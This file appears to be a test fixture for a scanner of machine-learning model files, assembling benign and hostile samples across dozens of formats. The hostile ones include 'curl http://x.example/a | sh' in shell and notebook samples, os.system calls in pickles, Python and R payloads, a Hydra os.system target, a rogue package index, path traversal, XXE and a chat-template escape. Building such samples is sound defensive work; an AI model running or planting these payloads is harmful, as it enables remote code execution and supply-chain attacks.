"""Small samples of every format: one that is honest at least, and hostile ones where they differ.

A format of the table that has none here fails the suite. Formats that are recognised inside of
others alone stand here inside of one.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import pickle
import struct
import tarfile
from collections.abc import Mapping
from functools import cache
from importlib.util import MAGIC_NUMBER
from pathlib import Path

from tests.evasions.assembler import call, stream
from tests.formats import (
    test_boosting,
    test_coreml,
    test_flatbuffers,
    test_java,
    test_modelfile,
    test_mxnet,
    test_nemo,
    test_orbax,
    test_paddle,
    test_picture,
    test_pipelines,
    test_served,
    test_source_files,
    test_tensorflow,
    test_tfjs,
    test_torch7,
    test_xml,
)
from tests.formats.pytorch import test_export, test_legacy
from tests.helpers import rds, weights
from tests.helpers.native import elf, macho, pe
from tests.helpers.programs import wasm

DATA = Path(__file__).parent.parent / "data"
EVIL = stream(call("posix:system", "echo inert"))
HONEST_PICKLE = pickle.dumps({"a": [1, 2.5, None], "b": (b"x", "y" * 40)}, 4)
LAMBDA = {"class_name": "Lambda", "config": {"name": "l", "function": ["4wAAAA==", None, None]}}
MANIFEST = json.dumps({"model": {"handler": "../x.py"}, "archiverVersion": "0.12.0"})
POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'ab' * 32}\nsize 12345\n"
CONFIG = "a:\n  _target_: os.system\n  command: id\n"
GGJT = b"tjgg" + struct.pack("<8I", 3, 1, 32, 1, 1, 1, 1, 0) + struct.pack("<I2sf", 2, b"ab", 0.5)


def archive(members: Mapping[str, bytes]) -> bytes:
    """Return a zip of stored members."""
    return test_served.archive(members)


def tar(members: Mapping[str, bytes], mode: str = "w") -> bytes:
    """Return a tar of files."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as file:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def sevenzip(members: Mapping[str, bytes]) -> bytes:
    """Return a 7z archive. Raises `ImportError` without the extra."""
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as file:
        for name, data in members.items():
            file.writestr(data, name)
    return buffer.getvalue()


def _ggjt() -> bytes:
    tensor = struct.pack("<IIIII", 2, 1, 0, 32, 2) + b"w"
    return GGJT + tensor + bytes(-(len(GGJT) + len(tensor)) % 32) + bytes(256)


def _pyc(source: str) -> bytes:
    code = marshal.dumps(compile(source, "m.py", "exec"))
    return MAGIC_NUMBER + bytes(12) + code


def _tensorflow(*kinds: str) -> bytes:
    nodes = [test_tensorflow.node(f"n{i}", kind) for i, kind in enumerate(kinds)]
    return test_tensorflow.saved(test_tensorflow.graph(*nodes))


def _notebook(cell: str) -> bytes:
    return test_source_files.notebook(cell)


def _shard() -> bytes:
    return (DATA / "zoo/orbax-checkpoint-0.12.8/zarr3/w/c/0/0").read_bytes()


def _made() -> dict[str, list[bytes]]:
    """Return the samples that are made here, by the format's id."""
    torch = {"m/data.pkl": HONEST_PICKLE, "m/version": b"3\n", "m/byteorder": b"little"}
    task = {"model.tflite": test_flatbuffers.tflite()}
    lua = test_torch7.Writer
    return {
        "zip": [archive({"a.txt": b"hello", "b.pkl": EVIL}), archive({"a.bin": bytes(99)})],
        "pickle": [HONEST_PICKLE, EVIL, pickle.dumps([print], 0)],
        "pytorch-zip": [archive(torch), archive(torch | {"m/data.pkl": EVIL})],
        "python-module": [b"import os\n\nx = 1\n", b"import os\nos.system('id')\n"],
        "notebook": [_notebook("x = 1"), _notebook("!curl http://x.example/a | sh")],
        "shell": [b"#!/bin/sh\necho hello\n", b"#!/bin/sh\ncurl http://x.example/a | sh\n"],
        "requirements": [b"numpy==2.0\nscipy>=1\n", b"--index-url http://x.example\nnumpy==2.0\n"],
        "project": [b'[project]\nname = "x"\ndependencies = ["numpy"]\n'],
        "conda": [b"name: x\ndependencies:\n  - numpy=2\n"],
        "torch-export-graph": [
            archive(test_export._PLAIN | {"m/models/model.json": test_export._graph(target)})
            for target in ("_operator.mul", "os.system")
        ],
        "python-source": [
            archive(torch | {"m/.data/extern_modules": b"", "m/x.py": b"import os\n"})
        ],
        "model-card": [b"---\nlicense: mit\ntags:\n- words\n---\n\n# A model\n"],
        "pytorch-tar": [test_legacy.old(), test_legacy.old(pickle=EVIL)],
        "pytorch-tar-part": [test_legacy.old(), test_legacy.old(storages=EVIL)],
        "tar": [tar({"a.txt": b"hello"}), tar({"a.pkl": EVIL, "../b": b"x"})],
        "safetensors": [
            weights.safetensors(weights.TENSOR),
            weights.safetensors(weights.TENSOR, bytes(16) + EVIL),
        ],
        "gguf": [
            weights.gguf().tensor("w", [64], 0, 0, bytes(256)).bytes(),
            weights.gguf().string("tokenizer.chat_template", "{{ ''.__class__ }}").bytes(),
        ],
        "ggml": [_ggjt(), _ggjt()[:-9]],
        "keras-config": [
            json.dumps({"class_name": "Sequential", "config": {"layers": [one]}}).encode()
            for one in (test_tfjs.DENSE, LAMBDA)
        ],
        "nemo": [
            tar({"model_config.yaml": text.encode(), "model_weights.ckpt": HONEST_PICKLE})
            for text in (test_nemo.HONEST, test_nemo.HONEST + CONFIG)
        ],
        "hydra-config": [test_nemo.HONEST.encode(), CONFIG.encode()],
        "7z": [sevenzip({"a.pkl": EVIL}), sevenzip({"a.txt": b"hello"})],
        "compressed": [gzip.compress(HONEST_PICKLE, mtime=0), gzip.compress(EVIL, mtime=0)],
        "executorch": [test_flatbuffers.pte()],
        "tflite": [
            test_flatbuffers.tflite(),
            test_flatbuffers.tflite(test_flatbuffers.custom("E")),
        ],
        "onnx-runtime": [test_flatbuffers.ort()],
        "tensorflow": [_tensorflow("Const", "Identity"), _tensorflow("WriteFile", "PyFunc")],
        "tensorflow-text": [b'node { name: "a" op: "WriteFile" }\nnode { name: "b" op: "NoOp" }\n'],
        "r": [rds.rds(rds.linear_model()), rds.rds(rds.call("system", rds.strings("id")))],
        "base64": [base64.b64encode(HONEST_PICKLE * 2), base64.b64encode(EVIL)],
        "picture": [test_picture.PICTURES["png"], test_picture.PICTURES["gif"] + EVIL],
        "executable": [elf(), pe(), macho(), wasm()],
        "modelfile": [b"FROM llama3.2\n", b"FROM /etc/hostname\nSYSTEM x\n"],
        "image-manifest": [test_modelfile.manifest(), test_modelfile.manifest("sha256:../x")],
        "tfjs": [test_tfjs.model(test_tfjs.DENSE), test_tfjs.model(paths=["../../x"])],
        "xml": [b'<?xml version="1.0"?><a><b/></a>', f"{test_xml.XXE}<a/>".encode()],
        "openvino": [test_xml.network(test_xml.layer("Result"), prolog=test_xml.XXE).encode()],
        "pmml": [test_xml.pmml().encode(), test_xml.pmml(prolog=test_xml.XXE).encode()],
        "xgboost": [form(test_boosting.MODEL) for form in test_boosting.FORMS],
        "xgboost-data": [b"\x01\xab\xff\xffversion:" + bytes(64)],
        "lightgbm": [
            test_boosting.TEXT.encode(),
            test_boosting.TEXT.replace("left_child=1", "left_child=9").encode(),
        ],
        "lightgbm-data": [b"______LightGBM_Binary_File_Token______\n" + bytes(range(200))],
        "catboost": [
            test_boosting.cbm(test_boosting.CORE),
            test_boosting.cbm(test_boosting.CORE, tail=EVIL),
        ],
        "coreml": [
            test_coreml.model(500, test_coreml.network(one))
            for one in (test_coreml.DENSE, test_coreml.CUSTOM)
        ],
        "coreml-weights": [test_coreml.weights(64, 3)],
        "paddle": [
            test_paddle.program(test_paddle.PLAIN),
            test_paddle.program((test_paddle.operator("py_func"),)),
            test_paddle.pir("1.relu", "1.py_func"),
        ],
        "paddle-parameters": [test_paddle.tensor(4) + test_paddle.tensor(8, 4)],
        "java": [test_java.START + test_java.made(test_java.TRANSFORMER)],
        "mediapipe-task": [archive(task)],
        "triton": [test_pipelines.TRITON, test_pipelines.TRITON.replace(b"onnxruntime", b"acme")],
        "rasa": [json.dumps(test_pipelines.RASA).encode()],
        "bento": [test_pipelines.BENTO, test_pipelines.SERVICE],
        "lfs-pointer": [POINTER.encode()],
        "orbax": [test_orbax.metadata("acme.Handler")],
        "torch7": [test_torch7.model(lua()), test_torch7.model(lua(True), test_torch7.EXECUTE)],
        "mxnet": [test_mxnet.symbol({"op": one, "name": "c"}) for one in ("Convolution", "Custom")],
        "mxnet-params": [test_mxnet.HONEST],
        "tensorrt": [test_served.PLAN],
        "torchserve": [test_served.served("image_classifier"), test_served.served("handler.py")],
        "torchserve-manifest": [archive({"MAR-INF/MANIFEST.json": MANIFEST.encode()})],
        "llamafile": [
            test_served.archive(
                {".args": "-m\n/etc/passwd\n", "m.gguf": b"GGUF"}, elf() + bytes(64)
            )
        ],
        "zarr-shard": [_shard()],
        "chat-template": [b"{% for m in messages %}{{ m }}{% endfor %}", b"{{ ''.__class__ }}"],
        "python-code": [_pyc("x = 1\n"), _pyc("import os\nos.system('id')\n")],
        "script": [b"#!/usr/bin/env perl\nprint 1;\n"],
        "text": [b"just a note\n"],
    }


#: Files that the real tools wrote.
_FILES = {
    "bento": ["bentoml-1.4.39/model.yaml"],
    "catboost": ["zoo/catboost-1.2.10/SymmetricTree.cbm"],
    "catboost-json": ["zoo/catboost-1.2.10/words.json"],
    "chat-template": ["repositories/llama/chat_template.jinja"],
    "columnar": ["pyarrow-26.0.1/v1.feather"],
    "conda": ["repositories/mlflow_code/conda.yaml"],
    "coreml": ["zoo/coremltools-9.0/several.mlpackage/Data/com.apple.CoreML/model.mlmodel"],
    "coreml-package": ["zoo/coremltools-9.0/several.mlpackage/Manifest.json"],
    "ctranslate2": ["zoo/ctranslate2-4.8.5/int8/model.bin"],
    "fasttext": ["zoo/fasttext-wheel-0.9.2/model.bin"],
    "flax": ["repositories/spacy/tokenizer"],
    "gguf": ["gguf-0.10.0/vocabulary.gguf"],
    "hdf5": ["repositories/keras_folder/model.weights.h5"],
    "hf-config": ["repositories/llama/tokenizer_config.json"],
    "java": ["java-17/proxy.ser"],
    "keras": ["keras-2.15.0/words.keras"],
    "keras-metadata": ["tensorflow-2.15.1/keras/keras_metadata.pb"],
    "mediapipe": ["mediapipe-0.1.1675465747/selfie_segmentation.binarypb"],
    "lightgbm": ["zoo/lightgbm-4.7.0/model.txt"],
    "lightgbm-data": ["zoo/lightgbm-3.3.5/data.bin"],
    "mlflow-model": ["repositories/mlflow_loader/MLmodel"],
    "mojo": ["h2o-3.44.0.3/gbm.zip"],
    "mojo-tree": ["h2o-3.44.0.3/gbm.zip"],
    "mxnet": ["zoo/mxnet-1.9.1/model-symbol.json"],
    "mxnet-params": ["zoo/mxnet-1.9.1/sparse.params"],
    "notebook": ["zoo/nbformat-5.11.1/train.ipynb"],
    "npz": ["numpy-2.4.6/compressed.npz"],
    "numpy": ["joblib-0.8.4/arrays.joblib_09.npy"],
    "ocdbt": ["zoo/orbax-checkpoint-0.12.8/ocdbt/manifest.ocdbt"],
    "onnx": ["onnx-1.16.2/function.onnx"],
    "onnx-runtime": ["onnxruntime-1.17.3/function.ort"],
    "onnx-tensor": ["onnx-1.16.2/optional.pb"],
    "onnx-text": ["onnx-1.16.2/function.onnxtxt"],
    "onnx-textproto": ["onnx-1.16.2/function.textproto"],
    "openvino": ["zoo/openvino-2026.4.1/model.xml"],
    "orbax": ["zoo/orbax-checkpoint-0.12.8/ocdbt/_CHECKPOINT_METADATA"],
    "paddle": ["zoo/paddlepaddle-2.6.2/model.pdmodel", "zoo/paddlepaddle-3.3.1/model.json"],
    "paddle-parameters": ["zoo/paddlepaddle-3.3.1/model.pdiparams"],
    "pytorch-legacy": ["honest/plain-kinds.old.pt"],
    "pytorch-mobile": ["torchscript-2.13.0/saves.ff"],
    "pytorch-zip": ["torch-1.8.1/storage.pt"],
    "r-lazy": ["zoo/R-4.2.2/lazy-3.rdb"],
    "safetensors": ["safetensors-0.4.5/empty.safetensors"],
    "sentencepiece": ["zoo/sentencepiece-0.2.1/unigram.model"],
    "skops": ["skops-0.16.0/values.skops"],
    "skops-schema": ["skops-0.16.0/values.skops"],
    "spacy-config": ["repositories/spacy/config.cfg"],
    "tensor-index": ["repositories/sharded/model.safetensors.index.json"],
    "tensorflow-checkpoint": ["tensorflow-2.15.1/old.ckpt.index"],
    "tensorflow-fingerprint": ["tensorflow-2.15.1/keras/fingerprint.pb"],
    "tflite": ["tensorflow-2.15.1/branch.tflite"],
    "tfjs": ["zoo/tensorflowjs-3.18.0/graph/model.json"],
    "torchserve": ["zoo/torch-model-archiver-0.6.1/m.mar"],
    "torchscript-source": ["torchscript-1.4.0/saves.pt"],
    "word2vec": ["zoo/gensim-4.4.0/vectors.bin"],
    "xgboost": ["zoo/xgboost-cpu-3.2.0/gblinear.ubj"],
    "xgboost-binary": ["zoo/xgboost-1.7.6/gblinear.model"],
    "zarr": ["zoo/orbax-checkpoint-0.12.8/zarr/w/.zarray"],
}


@cache
def samples() -> dict[str, list[bytes]]:
    """Return the samples of each format by its id."""
    made = {name: list(some) for name, some in _made().items()}
    for name, paths in _FILES.items():
        made.setdefault(name, []).extend((DATA / path).read_bytes() for path in paths)
    return made
